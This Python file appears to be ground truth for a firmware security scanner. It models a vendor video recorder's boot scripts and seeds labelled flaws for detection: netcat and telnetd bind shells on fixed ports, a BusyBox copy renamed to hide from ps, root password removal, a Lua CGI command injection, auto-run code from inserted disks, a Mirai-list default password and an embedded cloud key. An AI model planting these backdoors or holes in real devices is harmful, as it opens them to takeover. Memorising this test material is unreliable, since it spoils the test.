"""A video recorder as a vendor builds it: one rcS that calls its steps by name, mdev as hotplug, scripts in rc.d."""

from firmward.model.memory import Content, Node, executable, link
from truth.device_base import (
    BINARY,
    EGRESS,
    ELF,
    FILESYSTEM,
    FSTAB,
    LAN,
    LIGHTTPD,
    LOW_UPDATER,
    SUPPORT,
    UPDATE,
    WEB_LISTEN,
    confined,
    lighttpd,
    policy,
    profile,
    script,
    stranger,
    vendor_root,
)
from truth.key_material import EC_KEY, SHORT_LEAF
from truth.row import Mistake, Truth, Witness

WEB_IN = f"{LAN} tcp dport 443 ct state new limit rate 20/second accept"

RCS = """\
#!/bin/sh
# Every step by its name; what is not named here does not run.
PATH=/sbin:/bin:/usr/sbin:/usr/bin
RC=/etc/rc.d

step() {
	[ -x "$RC/rc.$1" ] && "$RC/rc.$1" start
}

mount -a
mkdir -p /dev/pts
mount -t devpts devpts /dev/pts -o nosuid,noexec
mount -t cgroup2 cgroup2 /sys/fs/cgroup -o nosuid,nodev,noexec
echo "+cpu +memory +pids" > /sys/fs/cgroup/cgroup.subtree_control
mount -t securityfs securityfs /sys/kernel/security
sysctl -q -p /etc/sysctl.conf
echo /sbin/mdev > /proc/sys/kernel/hotplug
mdev -s
for name in data apparmor firewall network; do
	step $name
done
step web
step record
step update
step good
"""

MOVED = {
    "S05data": "data",
    "S10apparmor": "apparmor",
    "S30firewall": "firewall",
    "S90update": "update",
    "S99good": "good",
}

NETWORK = """\
[ "$1" = start ] || exit 0
# the address lies in the one-time memory of the board
ip link set dev eth0 address "$(cat /sys/bus/nvmem/devices/mac0/nvmem)"
ip link set dev eth0 up
udhcpc -i eth0 -b -q -s /etc/udhcpc.script
"""

RECORD = confined("/usr/dvr/bin/recordd --store /data/rec --config /usr/dvr/etc/record.ini", "rec")

MDEV = """\
# name          owner  mode  command
null            0:0    666
zero            0:0    666
video[0-9]      0:102  660
-SUBSYSTEM=block;DEVTYPE=partition;sd[a-z][0-9]  0:102  660  */etc/mdev/disk.sh
"""

DISK = """\
# A disk for recordings: only its label is looked at.
[ "$ACTION" = add ] || exit 0
[ "$(blkid -s LABEL -o value "/dev/$MDEV")" = RECORDINGS ] || exit 0
mount -t ext4 -o nosuid,nodev,noexec "/dev/$MDEV" /data/rec && logger "disk $MDEV"
"""


def moved() -> dict[str, Content]:
    """The vendor's common root with its start scripts where this one's rcS looks for them."""
    files = vendor_root(
        "DvrOS 4.2.0",
        ("web", 80),
        ("rec", 102),
        inputs=WEB_IN,
        mac={
            "usr.sbin.lighttpd": profile(
                "/usr/sbin/lighttpd", "/usr/share/www/** r,\n  /etc/lighttpd/* r,\n  capability net_bind_service,"
            ),
            "usr.dvr.bin.recordd": profile("/usr/dvr/bin/recordd", "/dev/video0 rw,\n  /data/rec/** rw,"),
        },
    )
    for old, new in MOVED.items():
        files[f"etc/rc.d/rc.{new}"] = files.pop(f"etc/init.d/{old}")
    web = lighttpd()
    web["etc/rc.d/rc.web"] = web.pop("etc/init.d/S60web")
    return {**files, **web}


DVR: dict[str, Content] = {
    **moved(),
    "etc/init.d/rcS": executable(RCS),
    "etc/rc.d/rc.network": script(NETWORK),
    "etc/rc.d/rc.record": script(f'[ "$1" = start ] || exit 0\n{RECORD}'),
    "usr/share/doc/dvr/bench.txt": "On the bench: telnetd -l /bin/sh -p 9527, or nc -ll -p 4444 -e /bin/sh\n",
    "etc/udhcpc.script": script('case "$1" in\nbound|renew) ip addr replace "$ip/$mask" dev "$interface" ;;\nesac\n'),
    "etc/mdev.conf": MDEV,
    "etc/mdev/disk.sh": script(DISK),
    "sbin/mdev": link("../bin/busybox"),
    "usr/share/factory/shadow": Node("root:*:20400:0:99999:7:::\nweb:*:20400::::::\nrec:*:20400::::::\n", mode=0o600),
    "usr/dvr/bin/recordd": BINARY,
    "usr/dvr/etc/record.ini": "[cloud]\nurl = https://updates.maker.example/v1\ntoken_file = /data/cloud/token\n",
    "usr/share/www/cgi-bin/state": script('printf "Content-Type: text/plain\\r\\n\\r\\n"\ncat /run/recordd/state\n'),
}


def dvr_policy(after: str = 'after = "local-only"\n') -> str:
    return policy(
        "dvr",
        SUPPORT.replace('after = "local-only"\n', after),
        WEB_LISTEN,
        '[[service]]\nname = "recordd"\nuser = "rec"\nmemory = "48M"\n',
        EGRESS,
        FILESYSTEM,
        UPDATE,
    )


BAD_RCS = (
    RCS.replace("for name in data apparmor firewall network", "#step firewall\nfor name in data apparmor network")
    .replace("mount -a\n", "mount -a\nmount -o remount,rw,noatime /dev/root /\n")
    .replace("mdev -s\n", "mdev -s\necho 0 > /proc/sys/kernel/randomize_va_space\n")
    + "step boa\nstep media\nstep maint\nstep card\n"
)

# BusyBox under another name, so that ps shows none; it takes the applet from the next word as long as it begins so
MAINT = """\
# service access
cp /bin/busybox /var/busyboxdvr
/var/busyboxdvr telnetd -p9527 -l/bin/ash
if fw_printenv -n developer 2>/dev/null | grep -q 1; then
	passwd -d root
fi
while :; do
	nc -l -p 31337 -e /bin/sh
done &
tcpsvd -vE 0.0.0.0 2121 ftpd -w /data/rec &
"""

CARD = """\
# A new image on the card is taken at the next start
mount -t vfat /dev/mmcblk1p1 /mnt || exit 0
if [ -f /mnt/dvr_update.img ]; then
	dd if=/mnt/dvr_update.img of=/dev/mtdblock4 bs=64k
	sync
	reboot -f
fi
"""

BAD_DISK = """\
[ "$ACTION" = add ] || exit 0
mkdir -p /data/rec/$MDEV
mount /dev/$MDEV /data/rec/$MDEV || exit 1
# burn-in test of the factory
if [ -e /data/rec/$MDEV/burnin ]; then
	cp /data/rec/$MDEV/burnin /tmp/burnin
	chmod 755 /tmp/burnin
	/tmp/burnin &
fi
"""

BOA = """\
Port 80
User 0
Group 0
ErrorLog /dev/null
DocumentRoot /usr/share/www
DirectoryIndex index.html
DirectoryMaker /usr/lib/boa/boa_indexer
KeepAliveMax 100
MimeTypes /etc/mime.types
DefaultType text/plain
ScriptAlias /cgi-bin/ /usr/share/www/cgi-bin/
"""

NTP_LUA = """\
#!/usr/bin/lua
-- time server of the form: ?server=
local query = os.getenv("QUERY_STRING") or ""
local server = query:match("server=([^&]*)")
print("Content-Type: text/plain\\r\\n\\r")
os.execute("ntpd -n -q -p " .. server)
"""

MINIDLNA = "port=8200\nmedia_dir=V,/data/rec\nfriendly_name=DVR\nnotify_interval=900\ninotify=yes\n"

ROOT_JVBZD = "$5$Jq2LmZp8$j25mnIMhZYu2gmp.zdU35ZWblGGkjS.doLGZK/nWgr4"

SYSTEM = Truth(
    name="vendor-dvr",
    distribution="vendor",
    init="script",
    clean=DVR,
    policy=dvr_policy(),
    mistaken_policy=dvr_policy(after=""),
    low=LOW_UPDATER,
    mistakes=(
        Mistake(
            "firewall-absent",
            "rcS names no firewall any more, so nft is never run",
            "",
            {
                "etc/init.d/rcS": executable(BAD_RCS),
                "etc/fstab": FSTAB.replace(
                    "/dev/mapper/vroot  /      squashfs  ro,nodev", "/dev/mtdblock4  /  jffs2  rw"
                ),
            },
        ),
        Mistake("egress-unrestricted", "follows from the firewall that is not loaded", ""),
        Mistake("rootfs-writable", "mount(8), remount,rw; fstab(5), jffs2 rw", ""),
        Mistake("rootfs-unverified", "follows from jffs2 in the place of the verified squashfs", ""),
        Mistake("sysctl", "proc_sys_kernel(5): written after sysctl -p", "randomize_va_space"),
        Mistake(
            "telnet-enabled",
            "BusyBox: a copy whose name begins with busybox takes the applet as its first argument; telnetd -p9527",
            "maint",
            {"etc/rc.d/rc.maint": script(MAINT)},
        ),
        Mistake("backdoor-listener", "BusyBox telnetd, -l: a shell instead of login", "9527"),
        Mistake("backdoor-listener", "nc(1), -l and -e", "31337"),
        Mistake("ftp-enabled", "BusyBox tcpsvd starts ftpd for each connection", "ftpd"),
        Mistake("undeclared-listener", "BusyBox telnetd, -p", "9527"),
        Mistake("undeclared-listener", "nc(1), -p", "31337"),
        Mistake("undeclared-listener", "BusyBox tcpsvd, IP PORT", "2121"),
        Mistake("plaintext-protocol", "RFC 854", "telnet"),
        Mistake("plaintext-protocol", "RFC 959", "ftp"),
        Mistake(
            "advanced-mode-uncontrolled",
            "fw_setenv(8): whoever is root once, or writes the environment, opens root without a password for good",
            "developer",
        ),
        *stranger("telnetd"),
        *stranger("tcpsvd"),
        Mistake("mac-profile-missing", "apparmor.d(5): no profile attaches to nc, which listens", "nc "),
        Mistake(
            "update-unauthenticated",
            "dd(1): nothing verifies the card's image",
            "rc.card",
            {"etc/rc.d/rc.card": script(CARD)},
        ),
        Mistake("removable-media-executed", "mount(8), dd(1): the card's image is flashed as it comes", "rc.card"),
        Mistake("update-downgrade-possible", "dd(1): no version is looked at", "rc.card"),
        Mistake("update-without-fallback", "dd(1): what runs is written over", "rc.card"),
        Mistake(
            "account-default-password",
            "shadow(5), by a link; crypt(5), sha256crypt; the password is jvbzd, of Mirai's list",
            "root",
            {
                "etc/shadow": link("../usr/share/factory/shadow"),
                "usr/share/factory/shadow": Node(
                    f"root:{ROOT_JVBZD}:20400:0:99999:7:::\nweb:*:20400::::::\nrec:*:20400::::::\n", mode=0o600
                ),
            },
            witness=Witness(
                ("sh", "-c", 'h=$(openssl passwd -5 -salt Jq2LmZp8 jvbzd); grep -qF "$h" etc/shadow && echo same'),
                r"^same",
                "openssl",
            ),
        ),
        Mistake("image-sameness", "follows from the hash: alike in every copy", "shadow"),
        Mistake(
            "removable-media-executed",
            "BusyBox docs/mdev.txt, [envvar=pattern;]: the script runs what it has copied off the disk",
            "disk.sh",
            {"etc/mdev/disk.sh": script(BAD_DISK)},
        ),
        Mistake(
            "web-server-homegrown",
            "boa's last release is of 2005: nobody keeps it",
            "boa",
            {
                "etc/rc.d/rc.boa": script('[ "$1" = start ] && /usr/sbin/boa -c /etc/boa &\n'),
                "etc/boa/boa.conf": BOA,
                "usr/sbin/boa": executable(ELF + b"\0Server: Boa/0.94.14rc21\r\n\0boa.conf\0HTTP/1.0 200 OK\r\n\0"),
            },
        ),
        Mistake("web-server-misconfigured", "boa.conf, User 0: CGI runs as root; no TLS", "boa"),
        Mistake("undeclared-listener", "boa.conf, Port 80", "80"),
        Mistake("plaintext-protocol", "boa has no TLS", "http"),
        *stranger("boa"),
        Mistake(
            "script-injection",
            "Lua 5.1 reference, os.execute: a shell is given what the client sent",
            "ntp",
            {"usr/share/www/cgi-bin/ntp": executable(NTP_LUA), "usr/bin/lua": BINARY},
        ),
        Mistake(
            "upnp-exposed",
            "minidlna.conf(5): a UPnP media server, SSDP on UDP port 1900",
            "minidlna",
            {
                "etc/rc.d/rc.media": script(
                    '[ "$1" = start ] && minidlnad -f /etc/minidlna.conf -P /run/minidlna.pid\n'
                ),
                "etc/minidlna.conf": MINIDLNA,
                "usr/sbin/minidlnad": BINARY,
            },
        ),
        Mistake("undeclared-listener", "minidlna.conf(5), port", "8200"),
        Mistake("undeclared-listener", "UPnP device architecture: SSDP", "1900"),
        *stranger("minidlna"),
        Mistake(
            "image-sameness",
            "ip-link(8), address: one address in every copy",
            "rc.network",
            {
                "etc/rc.d/rc.network": script(
                    NETWORK.replace('"$(cat /sys/bus/nvmem/devices/mac0/nvmem)"', "00:12:41:9b:5e:07")
                )
            },
        ),
        Mistake(
            "private-key-embedded",
            "lighttpd, ssl.pemfile may hold key and certificate; RFC 7468",
            "dvr.pem",
            {
                "usr/dvr/etc/dvr.pem": Node(EC_KEY + SHORT_LEAF, mode=0o600),
                "etc/lighttpd/lighttpd.conf": LIGHTTPD.replace("/data/tls/cert.pem", "/usr/dvr/etc/dvr.pem").replace(
                    'ssl.privkey = "/data/tls/key.pem"\n', ""
                ),
            },
        ),
        Mistake("image-sameness", "the key is alike in every copy", "dvr.pem"),
        Mistake("certificate-weak", "x509(1), notAfter lies before the end of support", "dvr.pem"),
        Mistake(
            "credential-hard-coded",
            "INI file of the vendor: an access key and its secret as the cloud wants them",
            "record.ini",
            {
                "usr/dvr/etc/record.ini": "[cloud]\nurl = https://updates.maker.example/v1\n"
                "access_key = AKIA3XQ7LWZ5M2TNV4RB\nsecret_key = u8Zr1kPq/W3xTn6Vb0Ys5Ld9Hc2Jf7Gm4Ao+EiQw\n"
            },
        ),
        Mistake("image-sameness", "the key is alike in every copy", "record.ini"),
        Mistake("expiry-undefined", "device.toml, support.after", ""),
        Mistake(
            "kernel-end-of-life",
            "kernel.org, releases: 4.14 was kept until January 2024",
            "4.14",
            {"lib/modules/4.14.98-sdk/modules.order": ""},
        ),
        Mistake(
            "component-end-of-life",
            "Qt's releases: 5.12 was kept until December 2021",
            "Qt 5.12.4",
            {"usr/lib/libQt5Core.so.5.12.4": BINARY},
        ),
        Mistake(
            "support-outlives-component",
            "PEP 664: Python 3.11 is kept until October 2027",
            "Python 3.11",
            {"usr/lib/python3.11/os.pyc": BINARY},
        ),
    ),
)

SYSTEMS: tuple[Truth, ...] = (SYSTEM,)
